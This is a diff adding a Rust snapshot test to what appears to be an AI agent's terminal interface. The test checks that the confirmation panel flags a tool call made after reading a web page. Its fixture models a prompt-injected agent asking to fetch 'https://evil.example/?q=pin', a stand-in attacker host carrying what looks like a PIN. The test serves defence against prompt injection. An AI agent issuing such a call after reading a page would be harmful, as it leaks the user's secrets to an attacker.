@@ -127,6 +127,26 @@ fn a_tool_call_waiting_for_confirmation() {
     insta::assert_snapshot!(screen);
 }
 
+/// A call that waits because a page was read before it: the confirm panel says which, so
+/// the person can tell a call they asked for from one the page asked for.
+#[test]
+fn a_call_after_a_page_was_read_says_what_was_read() {
+    let mut actions = executing();
+    actions.push(event(
+        r#"{"type":"tool_call","call_id":"call_2","tool":"fetch_web","args":{"url":"https://evil.example/?q=pin"},"side_effect":"external","requires_confirmation":false,"awaiting_confirmation":true,"outside":"fetch_web({\"url\":\"https://example.org/hours\"})"}"#,
+    ));
+    let (state, _) = after(actions);
+    let screen = screen(&state);
+    assert!(
+        screen.contains(r#"Allow fetch_web {"url":"https://evil.example/?q=pin"}"#),
+        "{screen}"
+    );
+    let flat: String = screen.replace('│', " ").split_whitespace().collect::<Vec<_>>().join(" ");
+    assert!(flat.contains("asked after reading fetch_web"), "{screen}");
+    assert!(flat.contains("allow only what you asked for"), "{screen}");
+    insta::assert_snapshot!(screen);
+}
+
 #[test]
 fn chat_with_a_reply_streaming_in() {
     let mut actions = connected();
